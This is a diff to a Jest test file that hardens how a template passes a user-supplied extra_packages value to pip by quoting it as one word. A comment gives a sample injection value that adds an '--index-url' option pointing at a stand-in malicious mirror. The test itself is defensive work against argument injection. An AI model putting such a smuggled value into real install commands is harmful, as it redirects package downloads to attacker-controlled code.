@@ -367,9 +367,12 @@ describe('Prism template fixtures', () => {
         expect(err.diagnostics[0].message).toContain(';');
       });
 
-      test('safe extra_packages are installed', () => {
+      test('extra_packages reaches pip as one quoted word (issue 13.6): a free-text value is never split into arguments', () => {
+        // Split, "numpy --index-url=https://mirror.evil" would add an option to pip.
         const r = resolveAlone(rel, { extra_packages: 'xgboost lightgbm' });
-        expect(r.definition.postInstall).toContain('pip install xgboost lightgbm');
+        expect(r.definition.postInstall).toContain("pip install 'xgboost lightgbm'");
+        expect(r.definition.postInstall).toContain('echo "Installing extra packages: xgboost lightgbm"');
+        expect(resolveAlone(rel, { extra_packages: 'xgboost' }).definition.postInstall).toContain('pip install xgboost\n');
       });
 
       test('a user_name that breaks its pattern, and an unknown parameter, are both reported', () => {
